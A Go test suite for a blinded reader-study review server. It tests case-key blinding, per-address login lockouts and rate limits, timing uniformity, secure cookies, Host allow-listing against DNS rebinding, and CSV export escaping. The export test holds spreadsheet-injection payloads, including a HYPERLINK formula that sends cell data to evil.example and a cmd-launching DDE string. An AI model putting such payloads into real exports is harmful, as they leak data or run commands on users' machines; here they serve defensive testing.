package review

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"
)

// serveFrom sends one request straight to the server's handler as if it came
// from the client address addr (host only), with Host 127.0.0.1: the
// sign-in limits are per client address, which an httptest.Server cannot
// vary.
func (h *harness) serveFrom(addr, method, path string, body any, hdr map[string]string) *httptest.ResponseRecorder {
	h.t.Helper()
	var b []byte
	switch v := body.(type) {
	case nil:
	case string:
		b = []byte(v)
	default:
		b, _ = json.Marshal(v)
	}
	req := httptest.NewRequest(method, "http://127.0.0.1"+path, bytes.NewReader(b))
	req.Host = "127.0.0.1"
	req.RemoteAddr = net.JoinHostPort(addr, "40000")
	if body != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	rec := httptest.NewRecorder()
	h.srv.ServeHTTP(rec, req)
	return rec
}

func (h *harness) loginFrom(addr, name, secret string) *httptest.ResponseRecorder {
	h.t.Helper()
	return h.serveFrom(addr, "POST", "/api/login", map[string]string{"reader": name, "token": secret}, nil)
}

// key is the case key reader name sees for caseID.
func (h *harness) key(name, caseID string) string {
	h.t.Helper()
	rd, err := h.store.ReaderByName(context.Background(), name)
	if err != nil {
		h.t.Fatal(err)
	}
	return h.srv.CaseKey(rd.ID, caseID)
}

// caseOfKey is the case id behind reader name's key.
func (h *harness) caseOfKey(name, key string) string {
	h.t.Helper()
	for _, c := range h.study.Cases {
		if h.key(name, c.ID) == key {
			return c.ID
		}
	}
	h.t.Fatalf("%s has no case with key %q", name, key)
	return ""
}

// TestReaderSessionsAreAlwaysBlind: a reader signed in without "blind": true
// (as a script following the docs does) still sees only opaque keys, and
// the case ids of the manifest are refused everywhere, so no sequence of
// requests maps a key to its case id (which may name the centre).
func TestReaderSessionsAreAlwaysBlind(t *testing.T) {
	h := newHarness(t, makeStudy(t, 3, [3]int{16, 16, 8}), false, "alice")
	for _, blind := range []bool{false, true} {
		c := newClient(t, h.ts.URL)
		status, body := c.do("POST", "/api/login", map[string]any{"reader": "alice", "token": h.tokens["alice"], "blind": blind}, nil)
		if status != 200 {
			t.Fatalf("login: %d %s", status, body)
		}
		var lr loginResponse
		_ = json.Unmarshal(body, &lr)
		c.csrf = lr.CSRFToken
		var l casesResp
		c.getJSON("/api/cases", &l)
		for _, cs := range l.Cases {
			if _, ok := h.study.Case(cs.CaseID); ok {
				t.Fatalf("blind=%v: /api/cases names case %q by its id", blind, cs.CaseID)
			}
		}
		key := h.key("alice", "case001")
		if status, body := c.rate(key, 2, "by key", 1); status != 200 || bytes.Contains(body, []byte("case001")) {
			t.Fatalf("blind=%v: rating by key: %d %s", blind, status, body)
		}
		for _, rt := range []struct{ method, path string }{
			{"GET", "/api/cases/case001"},
			{"GET", "/api/cases/case001/slice?view=axial&index=0"},
			{"GET", "/api/cases/case001/surface"},
			{"POST", "/api/cases/case001/submit"},
		} {
			if status, body := c.do(rt.method, rt.path, nil, nil); status != http.StatusNotFound {
				t.Errorf("blind=%v: %s %s by case id: %d %s, want 404", blind, rt.method, rt.path, status, body)
			}
		}
		if status, body := c.rate("case002", 3, "", 1); status != http.StatusNotFound {
			t.Errorf("blind=%v: rating by case id: %d %s, want 404", blind, status, body)
		}
		for _, p := range []string{"/api/cases", "/api/ratings", "/api/cases/" + key} {
			if _, body := c.do("GET", p, nil, nil); bytes.Contains(body, []byte("case00")) {
				t.Errorf("blind=%v: %s shows a case id: %s", blind, p, body)
			}
		}
	}
}

// TestLockoutIsPerClient: wrong tokens from one address lock that address
// out for the name, never the reader signing in from elsewhere, and the
// lockout doubles with every failure after it.
func TestLockoutIsPerClient(t *testing.T) {
	h := newHarness(t, makeStudy(t, 1, [3]int{8, 8, 4}), false, "alice")
	now := time.Now()
	h.srv.o.Now = func() time.Time { return now }
	const attacker, reader = "203.0.113.66", "198.51.100.7"
	for i := range 12 {
		rec := h.loginFrom(attacker, "alice", "wrong")
		if i < 5 && rec.Code != http.StatusUnauthorized {
			t.Fatalf("failure %d: %d, want 401", i+1, rec.Code)
		}
		if i >= 5 && rec.Code != http.StatusTooManyRequests {
			t.Fatalf("attempt %d: %d, want 429", i+1, rec.Code)
		}
		if rec := h.loginFrom(reader, "alice", h.tokens["alice"]); rec.Code != 200 {
			t.Fatalf("after %d failures from another address the reader gets %d %s", i+1, rec.Code, rec.Body)
		}
	}
	rec := h.loginFrom(attacker, "alice", h.tokens["alice"])
	if rec.Code != http.StatusTooManyRequests || rec.Header().Get("Retry-After") != "2" {
		t.Fatalf("locked-out address with the right token: %d, Retry-After %q; want 429, 2", rec.Code, rec.Header().Get("Retry-After"))
	}
	// After the lock, each failure doubles it: 4 s, 8 s, 16 s.
	for _, want := range []string{"4", "8", "16"} {
		now = now.Add(time.Minute)
		if rec := h.loginFrom(attacker, "alice", "wrong"); rec.Code != http.StatusUnauthorized {
			t.Fatalf("after the lock: %d, want 401", rec.Code)
		}
		if rec := h.loginFrom(attacker, "alice", "wrong"); rec.Code != http.StatusTooManyRequests || rec.Header().Get("Retry-After") != want {
			t.Fatalf("locked again: %d, Retry-After %q; want 429, %s", rec.Code, rec.Header().Get("Retry-After"), want)
		}
		if rec := h.loginFrom(reader, "alice", h.tokens["alice"]); rec.Code != 200 {
			t.Fatalf("the reader during the attacker's lock: %d", rec.Code)
		}
	}
	// The address is locked out for this name only.
	if rec := h.loginFrom(attacker, "admin", h.tokens["admin"]); rec.Code != 200 {
		t.Fatalf("locked-out address signing in as another account: %d", rec.Code)
	}
}

// TestLoginRateLimits: one address gets PerClientBurst attempts, then one per
// 1/PerClient seconds, whatever names it tries; all addresses together get
// GlobalBurst, except addresses that signed in before; an IPv6 /64 is one
// address; behind a proxy (TrustForwardedFor) X-Forwarded-For's last entry
// is the address.
func TestLoginRateLimits(t *testing.T) {
	h := newHarness(t, makeStudy(t, 1, [3]int{8, 8, 4}), false, "alice")
	now := time.Now()
	h.srv.o.Now = func() time.Time { return now }
	h.srv.guard = newLoginGuard(LoginLimits{PerClient: 0.5, PerClientBurst: 3, Global: 1, GlobalBurst: 6})
	try := func(addr, name, secret string, want int) *httptest.ResponseRecorder {
		t.Helper()
		rec := h.loginFrom(addr, name, secret)
		if rec.Code != want {
			t.Fatalf("%s signing in as %s: %d %s, want %d", addr, name, rec.Code, rec.Body, want)
		}
		return rec
	}
	// alice's address becomes known before the flood
	try("198.51.100.7", "alice", h.tokens["alice"], 200)
	// per client: three names, then 429 for any name, also a right token
	for _, name := range []string{"u1", "u2", "u3"} {
		try("203.0.113.1", name, "x", 401)
	}
	if rec := try("203.0.113.1", "admin", h.tokens["admin"], 429); rec.Header().Get("Retry-After") != "2" {
		t.Fatalf("Retry-After %q, want 2", rec.Header().Get("Retry-After"))
	}
	now = now.Add(2 * time.Second)
	try("203.0.113.1", "u4", "x", 401)
	// an IPv6 /64 is one client: other host bits do not give a new burst
	for i, addr := range []string{"2001:db8:1:2::1", "2001:db8:1:2::2", "2001:db8:1:2:ffff::3"} {
		try(addr, "v"+strconv.Itoa(i), "x", 401)
	}
	if rec := try("2001:db8:1:2::4", "v4", "x", 429); !strings.Contains(rec.Body.String(), "from this address") {
		t.Fatalf("the /64 is refused for another reason: %s", rec.Body)
	}
	// global: 6 at once were allowed (alice's among them: she was not known
	// yet); the next new address is refused...
	if rec := try("192.0.2.50", "w", "x", 429); !strings.Contains(rec.Body.String(), "at the moment") {
		t.Fatalf("a new address is refused for another reason: %s", rec.Body)
	}
	// ...but alice, known from her earlier sign-in, is not
	try("198.51.100.7", "alice", h.tokens["alice"], 200)

	// Behind a proxy every request comes from the proxy's address: with
	// TrustForwardedFor the last X-Forwarded-For entry counts instead.
	h.srv.guard = newLoginGuard(LoginLimits{PerClient: 0.5, PerClientBurst: 1})
	h.srv.o.TrustForwardedFor = true
	via := func(xff string, want int) {
		t.Helper()
		rec := h.serveFrom("10.0.0.1", "POST", "/api/login", map[string]string{"reader": "mallory", "token": "x"}, map[string]string{"X-Forwarded-For": xff})
		if rec.Code != want {
			t.Fatalf("X-Forwarded-For %q: %d, want %d", xff, rec.Code, want)
		}
	}
	via("192.0.2.1", 401)
	via("192.0.2.2", 401)
	via("198.51.100.9, 192.0.2.1", 429) // a client cannot pick its address
}

// TestLoginTimingSameForUnknownNames: a wrong secret for a token account, a
// wrong password for a password account and an unknown name all cost one
// bcrypt verification, so their median times differ by less than 20 ms and
// the answer time does not tell which names exist.
func TestLoginTimingSameForUnknownNames(t *testing.T) {
	h := newHarness(t, makeStudy(t, 1, [3]int{8, 8, 4}), false, "alice")
	if _, err := AddReader(context.Background(), h.store, "bob", false, "correct horse battery"); err != nil {
		t.Fatal(err)
	}
	kinds := []struct{ name, reader, secret string }{
		{"token account, wrong token", "alice", "wrong-token"},
		{"password account, wrong password", "bob", "wrong password"},
		{"unknown name", "mallory", "wrong-token"},
	}
	// warm up (the dummy hash, the database pages)
	for i, k := range kinds {
		h.loginFrom("192.0.2."+strconv.Itoa(i+1), k.reader, k.secret)
	}
	// A leak shows in every measurement; a busy machine (other test
	// packages run beside this one) only in some. So measure up to three
	// times and fail only when every attempt leaks. Each attempt compares
	// the kinds round by round (paired differences, median over rounds), so
	// load that comes and goes hits all three alike.
	const rounds, attempts = 11, 3
	var last string
	for attempt := range attempts {
		times := make([][]time.Duration, len(kinds))
		for r := range rounds {
			for i, k := range kinds {
				// a fresh address per attempt: the lockout must not interfere
				addr := "10." + strconv.Itoa(attempt+1) + "." + strconv.Itoa(r) + "." + strconv.Itoa(i)
				start := time.Now()
				rec := h.loginFrom(addr, k.reader, k.secret)
				times[i] = append(times[i], time.Since(start))
				if rec.Code != http.StatusUnauthorized {
					t.Fatalf("%s: %d %s, want 401", k.name, rec.Code, rec.Body)
				}
			}
		}
		last = ""
		for i := range 2 {
			diffs := make([]time.Duration, rounds)
			for r := range rounds {
				diffs[r] = times[i][r] - times[2][r]
			}
			sort.Slice(diffs, func(a, b int) bool { return diffs[a] < diffs[b] })
			if d := diffs[rounds/2].Abs(); d >= 20*time.Millisecond {
				last += fmt.Sprintf("%s and an unknown name: median paired difference %v, want < 20 ms; ", kinds[i].name, d)
			}
		}
		med := func(x []time.Duration) time.Duration {
			y := append([]time.Duration(nil), x...)
			sort.Slice(y, func(a, b int) bool { return y[a] < y[b] })
			return y[len(y)/2]
		}
		t.Logf("attempt %d: median sign-in times: %s %v, %s %v, %s %v", attempt+1, kinds[0].name, med(times[0]), kinds[1].name, med(times[1]), kinds[2].name, med(times[2]))
		if last == "" {
			return
		}
	}
	t.Error(last)
}

// TestExportNeutralisesFormulas: comments that a spreadsheet would run as a
// formula (starting with =, +, -, @, tab or CR) are exported with a leading
// single quote, as OWASP recommends, and control characters are removed,
// in the ratings export and in the audit trail, which are both private to
// their owner (0600) like the database.
func TestExportNeutralisesFormulas(t *testing.T) {
	cases := []struct{ comment, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\n=1"},
		{"nul\x00byte\x07bell\x1b[31m", "nulbytebell[31m"},
		{"\x00=1", "'=1"},
		{"thin rim, \"apex\"\nsecond line", "thin rim, \"apex\"\nsecond line"},
		{"", ""},
	}
	dir := makeStudy(t, len(cases), [3]int{8, 8, 4})
	h := newHarness(t, dir, false, "alice")
	c := h.login("alice")
	for i, tc := range cases {
		id := h.study.Cases[i].ID
		if status, body := c.rate(h.key("alice", id), 2, tc.comment, 1); status != 200 {
			t.Fatalf("rate %q: %d %s", tc.comment, status, body)
		}
	}
	out := t.TempDir()
	ratings, history := filepath.Join(out, "ratings.csv"), filepath.Join(out, "history.csv")
	// an existing file of another mode is replaced by a private one
	if err := os.WriteFile(ratings, []byte("old"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Export(context.Background(), h.store, ratings, ExportOptions{}); err != nil {
		t.Fatal(err)
	}
	if _, err := ExportHistory(context.Background(), h.store, history); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{ratings, history} {
		fi, err := os.Stat(p)
		if err != nil {
			t.Fatal(err)
		}
		if fi.Mode().Perm() != 0o600 {
			t.Errorf("%s: mode %v, want 0600", filepath.Base(p), fi.Mode().Perm())
		}
		raw, _ := os.ReadFile(p)
		if bytes.ContainsAny(raw, "\x00\x07\x1b\r") {
			t.Errorf("%s holds control characters: %q", filepath.Base(p), raw)
		}
		rows := readCSV(t, p)
		col := slices.Index(rows[0], "comment")
		byCase := map[string]string{}
		for _, r := range rows[1:] {
			byCase[r[0]] = r[col]
		}
		for i, tc := range cases {
			if got := byCase[h.study.Cases[i].ID]; got != tc.want {
				t.Errorf("%s: comment %q exported as %q, want %q", filepath.Base(p), tc.comment, got, tc.want)
			}
		}
	}
}

// TestSubmitIsAudited: submitting through POST /api/cases/{key}/submit (what
// the app does) is an event of the audit trail, like rating and changing a
// rating.
func TestSubmitIsAudited(t *testing.T) {
	h := newHarness(t, makeStudy(t, 2, [3]int{8, 8, 4}), false, "alice")
	c := h.login("alice")
	key := h.key("alice", "case001")
	for _, lk := range []int{3, 2} {
		if status, body := c.rate(key, lk, "rim", 5); status != 200 {
			t.Fatalf("rate: %d %s", status, body)
		}
	}
	if status, body := c.do("POST", "/api/cases/"+key+"/submit", nil, nil); status != 200 {
		t.Fatalf("submit: %d %s", status, body)
	}
	p := filepath.Join(t.TempDir(), "history.csv")
	if _, err := ExportHistory(context.Background(), h.store, p); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, p)
	col := func(name string) int { return slices.Index(rows[0], name) }
	var got []string
	for _, r := range rows[1:] {
		got = append(got, r[col("case_id")]+" "+r[col("likert")]+" "+r[col("submitted")])
	}
	want := []string{"case001 3 false", "case001 2 false", "case001 2 true"}
	if !slices.Equal(got, want) {
		t.Fatalf("audit trail (case likert submitted) %q, want %q\n%v", got, want, rows)
	}
}

// TestMethodNotAllowed: a known path with the wrong method is 405 with an
// Allow header naming the methods it takes; unknown paths stay 404 (401
// without a session).
func TestMethodNotAllowed(t *testing.T) {
	h := newHarness(t, makeStudy(t, 1, [3]int{8, 8, 4}), false, "alice")
	c := h.login("alice")
	key := h.key("alice", "case001")
	for _, tc := range []struct{ method, path, allow string }{
		{"DELETE", "/api/ratings", "GET, HEAD, POST"},
		{"PUT", "/api/ratings", "GET, HEAD, POST"},
		{"GET", "/api/login", "POST"},
		{"PUT", "/api/login", "POST"},
		{"GET", "/api/logout", "POST"},
		{"POST", "/api/cases", "GET, HEAD"},
		{"DELETE", "/api/cases/" + key, "GET, HEAD"},
		{"GET", "/api/cases/" + key + "/submit", "POST"},
		{"POST", "/api/cases/" + key + "/slice", "GET, HEAD"},
		{"POST", "/login", "GET, HEAD"},
		{"POST", "/", "GET, HEAD"},
		{"DELETE", "/static/app.js", "GET, HEAD"},
	} {
		t.Run(tc.method+" "+tc.path, func(t *testing.T) {
			req, _ := http.NewRequest(tc.method, h.ts.URL+tc.path, nil)
			req.Header.Set(CSRFHeader, c.csrf)
			resp, err := c.hc.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if resp.StatusCode != http.StatusMethodNotAllowed || resp.Header.Get("Allow") != tc.allow {
				t.Fatalf("%d, Allow %q; want 405, Allow %q", resp.StatusCode, resp.Header.Get("Allow"), tc.allow)
			}
		})
	}
	if status, _ := c.do("DELETE", "/api/nothing", nil, nil); status != http.StatusNotFound {
		t.Fatalf("unknown path: %d, want 404", status)
	}
}

// TestHostAllowList: requests whose Host header is not one of the server's
// names are refused (421) before anything else, which defeats DNS
// rebinding: a page on an attacker's domain that resolves to 127.0.0.1
// cannot talk to the server.
func TestHostAllowList(t *testing.T) {
	h := newHarness(t, makeStudy(t, 1, [3]int{8, 8, 4}), false, "alice")
	for _, tc := range []struct {
		host   string
		status int
	}{
		{"evil.example", http.StatusMisdirectedRequest},
		{"evil.example:8080", http.StatusMisdirectedRequest},
		{"127.0.0.1.evil.example", http.StatusMisdirectedRequest},
		{"", http.StatusMisdirectedRequest},
		{"127.0.0.1", 200},
		{"127.0.0.1:8080", 200},
		{"localhost:8080", 200},
		{"LOCALHOST.", 200},
		{"[::1]:8080", 200},
	} {
		for _, p := range []struct{ method, path string }{{"GET", "/login"}, {"POST", "/api/login"}} {
			var body any
			if p.method == "POST" {
				body = map[string]string{"reader": "alice", "token": h.tokens["alice"]}
			}
			req := httptest.NewRequest(p.method, "http://127.0.0.1"+p.path, nil)
			if body != nil {
				b, _ := json.Marshal(body)
				req = httptest.NewRequest(p.method, "http://127.0.0.1"+p.path, bytes.NewReader(b))
				req.Header.Set("Content-Type", "application/json")
			}
			req.Host = tc.host
			rec := httptest.NewRecorder()
			h.srv.ServeHTTP(rec, req)
			if rec.Code != tc.status {
				t.Errorf("%s %s with Host %q: %d, want %d", p.method, p.path, tc.host, rec.Code, tc.status)
			}
		}
	}
}

// TestCookiesSecure: with SecureCookie every cookie the server sets is
// Secure, the one that signs out included; the CSRF token is stored only as
// a hash.
func TestCookiesSecure(t *testing.T) {
	h := newHarness(t, makeStudy(t, 1, [3]int{8, 8, 4}), false, "alice")
	h.srv.o.SecureCookie = true
	rec := h.loginFrom("127.0.0.1", "alice", h.tokens["alice"])
	if rec.Code != 200 {
		t.Fatalf("login: %d %s", rec.Code, rec.Body)
	}
	var lr loginResponse
	_ = json.Unmarshal(rec.Body.Bytes(), &lr)
	cookies := rec.Result().Cookies()
	if len(cookies) != 1 || !cookies[0].Secure {
		t.Fatalf("login cookies %v: want one, Secure", cookies)
	}
	out := h.serveFrom("127.0.0.1", "POST", "/api/logout", nil, map[string]string{
		"Cookie": SessionCookie + "=" + cookies[0].Value, CSRFHeader: lr.CSRFToken})
	if out.Code != 200 {
		t.Fatalf("logout: %d %s", out.Code, out.Body)
	}
	cookies = out.Result().Cookies()
	if len(cookies) != 1 || !cookies[0].Secure || cookies[0].MaxAge >= 0 {
		t.Fatalf("logout cookies %v: want one, Secure, expired", cookies)
	}
	raw, _ := os.ReadFile(DefaultDBPath(h.study.Dir))
	wal, _ := os.ReadFile(DefaultDBPath(h.study.Dir) + "-wal")
	if bytes.Contains(raw, []byte(lr.CSRFToken)) || bytes.Contains(wal, []byte(lr.CSRFToken)) {
		t.Fatal("the database holds the CSRF token in clear")
	}
}
